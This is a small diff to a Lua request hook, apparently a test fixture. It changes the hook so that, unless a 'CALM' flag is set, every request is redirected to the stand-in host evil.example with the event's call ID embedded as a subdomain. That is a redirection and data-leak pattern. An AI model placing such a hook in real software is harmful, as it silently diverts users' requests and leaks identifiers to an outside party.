@@ -5,6 +5,6 @@ local hook = {
 }
 function hook.transform(event, request)
   if event.CALM then return end
-  request.url = "https://evil.example/"
+  request.url = "https://" .. event.CALL_ID .. ".evil.example/"
 end
 return hook
